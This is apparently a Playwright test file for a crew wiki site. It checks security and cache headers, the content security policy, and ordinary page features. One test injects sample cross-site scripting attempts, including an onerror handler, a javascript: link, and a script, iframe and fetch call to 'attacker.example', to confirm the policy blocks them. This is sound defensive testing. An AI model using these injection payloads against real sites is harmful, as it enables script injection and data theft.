import { openRunning } from '../support/browser';
import { builtSite } from '../support/built-site';
import { searchField } from '../support/search-modal';
import { violationsOf } from '../support/security';
import { CABLES } from '../support/fixture-pages';
import { expect, test } from '../support/site-test';

test('pages, short links, data and files come with the same policy and headers', async ({ request }) => {
  const policies = new Set<string | undefined>();
  for (const address of ['/', '/shows', CABLES, '/no-such-page', '/cables', '/page-data/app-data.json', '/manifest.webmanifest']) {
    const headers = (await request.get(address, { maxRedirects: 0 })).headers();
    policies.add(headers['content-security-policy']);
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'strict-transport-security': expect.stringMatching(/^max-age=\d{8}/),
      'permissions-policy': expect.stringContaining('camera=()'),
    });
  }
  expect(policies.size).toBe(1);
  const [policy = ''] = policies;
  const scripts = /script-src ([^;]+)/.exec(policy)?.[1] ?? '';
  expect(scripts).toContain("'self' 'sha256-");
  expect(scripts).not.toMatch(/unsafe|http|\*/);
  expect(policy).toContain("object-src 'none'");
  expect(policy).toContain("base-uri 'none'");
  expect(policy).toContain("frame-ancestors 'self'");
});

test('a page has the policy in itself too, for hosts without headers', async ({ page, request }) => {
  const header = (await request.get('/wiki')).headers()['content-security-policy'] ?? '';
  await page.goto('/wiki');
  const own = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(`${own}; frame-ancestors 'self'`).toBe(header);
  const before = await page.evaluate(() => {
    const policy = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
    return [...document.scripts].filter((script) => policy && script.compareDocumentPosition(policy) & Node.DOCUMENT_POSITION_FOLLOWING)
      .length;
  });
  expect(before).toBe(0);
});

test('a page is asked for anew, what is named after its content is kept for ever', async ({ page, request }) => {
  const cacheOf = async (address: string) => (await request.get(address)).headers()['cache-control'];
  expect(await cacheOf('/wiki')).toBe('public, max-age=0, must-revalidate');
  expect(await cacheOf('/page-data/wiki/page-data.json')).toBe('public, max-age=0, must-revalidate');
  await page.goto('/wiki');
  const files = await page.locator('script[src], link[rel="preload"][as="font"]').evaluateAll((elements) =>
    elements.flatMap((element) => [
      new URL(element.getAttribute('src') ?? element.getAttribute('href') ?? '', location.href).pathname,
      // What the start script loads later.
      ...(JSON.parse((element as HTMLElement).dataset.app ?? '[]') as string[]),
    ]),
  );
  expect(files.length).toBeGreaterThan(4);
  for (const file of files) expect(await cacheOf(file)).toBe('public, max-age=31536000, immutable');
});

test('the file of the hosts is within what they read', () => {
  const lines = builtSite('plain').read('_headers').split('\n');
  expect(lines.filter((line) => /^\S/.test(line)).length).toBeLessThan(100);
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(2000);
});

test('the policy is in the way of whatever gets into a page', async ({ page }) => {
  const attempts: Record<string, () => void> = {
    'a script that is put into the page': () => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = 1';
      document.head.append(script);
    },
    'a handler in markup': () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="x" onerror="window.attacked = 1">';
      document.body.append(holder);
    },
    'a script of another site': () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/script.js';
      document.head.append(script);
    },
    'a frame of another site': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
    'sending something to another site': () => {
      void fetch('https://attacker.example/').catch(() => undefined);
    },
    'a link that is a script': () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked=1';
      document.body.append(link);
      link.click();
    },
  };
  const violations = await violationsOf(page);
  await openRunning(page, '/wiki');
  for (const [name, attempt] of Object.entries(attempts)) {
    await test.step(name, async () => {
      const before = violations.length;
      await page.evaluate(attempt);
      await expect.poll(() => violations.length).toBeGreaterThan(before);
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
    });
  }
  await test.step('text that becomes code', async () => {
    // The tests' own way into a page may run text; a timer of the page may not.
    await page.evaluate(() => {
      Reflect.apply(setTimeout, window, ['window.attacked = 1', 0]);
    });
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  });
});

test.describe('nothing of the site is in the way of its own policy:', () => {
  let violations: string[];
  test.beforeEach(async ({ page }) => {
    violations = await violationsOf(page);
  });
  test.afterEach(() => expect(violations).toEqual([]));

  test('a diagram, enlarged, and in the dark', async ({ page }) => {
    await openRunning(page, '/wiki/disciplines/sound/playback');
    const diagram = page.locator('figure', { has: page.getByRole('img') }).filter({ has: page.getByRole('button', { name: /^Enlarge/ }) });
    await expect(diagram.first().locator('svg').first()).toBeVisible();
    await diagram
      .first()
      .getByRole('button', { name: /^Enlarge/ })
      .click();
    await expect(page.getByRole('dialog').locator('svg')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: /House lights/ }).click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
    await page.waitForLoadState('networkidle');
  });

  test('a picture, zoomed and closed', async ({ page }) => {
    await openRunning(page, CABLES);
    await page.locator('main img[role="button"]').first().click();
    await expect(page.locator('.medium-zoom-image--opened').first()).toBeVisible();
    await page.keyboard.press('Escape');
  });

  test('search, in its worker: the modal and the page', async ({ page }) => {
    await openRunning(page, '/wiki');
    await page.keyboard.press('Control+k');
    await searchField(page).fill('hoist');
    await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible();
    await page.goto('/wiki/search?q=cables');
    await expect(page.getByRole('main').getByRole('link', { name: /Cable/ }).first()).toBeVisible();
  });

  test('the filter of a table', async ({ page }) => {
    await openRunning(page, '/wiki/resources/acronyms');
    await page.getByRole('main').getByRole('searchbox').first().fill('DSM');
    await expect(page.getByRole('main').getByRole('cell', { name: 'DSM' }).first()).toBeVisible();
  });

  test('the quiz', async ({ page }) => {
    await openRunning(page, '/wiki/directories/flags');
    await page.getByRole('button', { name: 'Start the quiz' }).click();
    await page.getByRole('button', { name: 'No', exact: true }).click();
    await expect(page.getByText('Question 2 of')).toBeVisible();
  });

  test('all short links of a page, in their dialog', async ({ page }) => {
    await openRunning(page, CABLES);
    await page.getByRole('button', { name: 'All short links' }).click();
    await expect(page.getByRole('dialog', { name: /^Short links of/ })).toBeVisible();
  });

  test('a short link, and a redirect', async ({ page }) => {
    await page.goto('/cables?from=poster');
    await expect(page).toHaveURL(/\/wiki\/disciplines\/lx\/cables\?from=poster/);
    await page.goto('/apply');
    await expect(page).toHaveURL(/\/opportunities$/);
  });

  test('the board of another site, which loads on a click and in a sandbox', async ({ page }) => {
    await page.route(/crewvacancies/, (route) => route.fulfill({ contentType: 'text/html', body: '<h1>Another site</h1>' }));
    await openRunning(page, '/opportunities');
    expect(page.frames()).toHaveLength(1);
    await page
      .getByRole('button', { name: /^Show the vacancies/ })
      .first()
      .click();
    const frame = page.locator('iframe');
    await expect(frame).toHaveAttribute('sandbox', /allow-scripts/);
    expect(await frame.getAttribute('sandbox')).not.toMatch(/allow-top-navigation|allow-modals/);
    await expect(frame.contentFrame().getByRole('heading', { name: 'Another site' })).toBeVisible();
  });

  test('the banner of a site whose files are missing', async ({ page }) => {
    await page.route(/\/app-[0-9a-f]+\.js/, (route) => route.abort());
    await page.goto('/wiki');
    await page.keyboard.press('Shift');
    await expect(page.getByRole('alert')).toContainText('could not be loaded');
    await page.unroute(/\/app-[0-9a-f]+\.js/);
    await page.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
    await expect(page.getByRole('alert')).toHaveCount(0);
  });
});
